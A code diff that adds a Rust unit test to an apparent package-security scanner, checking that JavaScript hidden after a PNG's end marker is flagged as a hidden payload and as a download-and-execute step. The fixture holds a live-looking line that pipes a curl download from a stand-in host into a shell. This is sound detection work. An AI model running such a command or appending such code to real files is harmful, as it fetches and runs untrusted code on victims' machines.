@@ -98,4 +98,33 @@ mod tests {
         ]);
         assert!(hits(&s, "code/hidden-payload").is_empty());
     }
+
+    #[test]
+    fn positive_code_after_png_end() {
+        let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
+        png.extend_from_slice(&[0u8; 20]);
+        png.extend_from_slice(b"IEND\xaeB`\x82");
+        png.extend_from_slice(
+            b"var cp=require('child_process');cp.exec('curl https://x.example.net/s | sh');\n",
+        );
+        let files = vec![
+            crate::PackageFile {
+                path: "package.json".into(),
+                bytes: PJ.as_bytes().to_vec(),
+            },
+            crate::PackageFile {
+                path: "logo.png".into(),
+                bytes: png,
+            },
+        ];
+        let s = crate::scan_files(files, Vec::new(), "t", &crate::ScanOptions::default());
+        assert_eq!(
+            hits(&s, "code/hidden-payload"),
+            vec![("logo.png".to_string(), 0)]
+        );
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("logo.png".to_string(), 0)]
+        );
+    }
 }
